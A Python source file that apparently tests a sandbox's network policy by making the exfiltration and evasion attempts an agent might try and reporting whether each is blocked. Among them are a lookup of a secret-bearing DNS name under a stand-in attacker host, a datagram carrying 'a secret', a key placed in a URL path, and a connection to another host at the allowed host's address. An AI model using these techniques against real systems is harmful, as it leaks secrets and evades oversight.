"""What an agent in a sandbox may try; prints one JSON line for each attempt, and whether it went as the policy says.

sandbox.py ALLOWED-HOST OTHER-HOST [ROUNDS]: with ROUNDS it ends, with status 1 if anything went otherwise.
"""

import http.client
import json
import socket
import ssl
import sys
import time
from collections.abc import Callable
from pathlib import Path

PAUSE = 30.0
PLACEHOLDER = "the-key-of-the-agent"
"""What this program has in the place of a key: Weir puts the key there on the way, for one host alone."""


def get(host: str, address: str | None = None, path: str = "/", key: str = PLACEHOLDER) -> str:
    """One HTTPS request, whose answer must be no error. `address`: connect there, whatever DNS says of the host."""
    context = ssl.create_default_context()
    with (
        socket.create_connection((address or host, 443), timeout=10) as plain,
        context.wrap_socket(plain, server_hostname=host) as secured,
    ):
        connection = http.client.HTTPConnection(host)
        connection.sock = secured
        connection.request("GET", path, headers={"Authorization": f"Bearer {key}"})
        answer = connection.getresponse()
        answer.read()
        if answer.status >= 400:
            raise http.client.HTTPException(f"status {answer.status}")
        return str(answer.status)


def datagram(like: str) -> str:
    """One datagram to an address that documents use, of the family of `like`, and what comes back."""
    family, target = (socket.AF_INET6, "2001:db8::1") if ":" in like else (socket.AF_INET, "192.0.2.1")
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(3)
        sender.connect((target, 9999))
        sender.send(b"a secret")
        sender.recv(64)
    return "answered"


def attempts(allowed: str, other: str) -> dict[str, tuple[Callable[[], str], bool]]:
    """What is tried, and whether it may succeed."""
    address = str(socket.getaddrinfo(allowed, 443, type=socket.SOCK_STREAM)[0][4][0])
    return {
        "the allowed host": (lambda: get(allowed), True),
        "an account of the allowed host, by a key that is not here": (lambda: get(allowed, path="/account"), True),
        "the same with a key that is made up": (lambda: get(allowed, path="/account", key="made-up"), False),
        "what stands for the key, in a path": (lambda: get(allowed, path=f"/{PLACEHOLDER}"), False),
        "another host": (lambda: get(other), False),
        "another host, at the address of the allowed one": (lambda: get(other, address), False),
        "a secret in a DNS name": (lambda: str(socket.getaddrinfo("a-secret.attacker.example", 443)), False),
        "a datagram": (lambda: datagram(address), False),
    }


def once(allowed: str, other: str) -> bool:
    """All attempts; whether all went as the policy says."""
    right = True
    for name, (attempt, may) in attempts(allowed, other).items():
        try:
            result, done = attempt(), True
        except (OSError, http.client.HTTPException) as error:
            result, done = f"{type(error).__name__}: {error}", False
        right = right and done is may
        print(json.dumps({"attempt": name, "as_expected": done is may, "result": result}), flush=True)
    return right


def main() -> int:
    """The exit status."""
    allowed, other, *rounds = sys.argv[1:]
    left = int(rounds[0]) if rounds else -1
    wrong = False
    while left:
        try:
            right = once(allowed, other)
        except OSError as error:
            right = False
            print(json.dumps({"attempt": "to resolve the allowed host", "as_expected": False, "result": str(error)}))
        if right:
            Path("/tmp/ok").touch()  # noqa: S108  # The container's own, for its readiness probe.
        wrong = wrong or not right
        left -= 1
        if left:
            time.sleep(PAUSE)
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
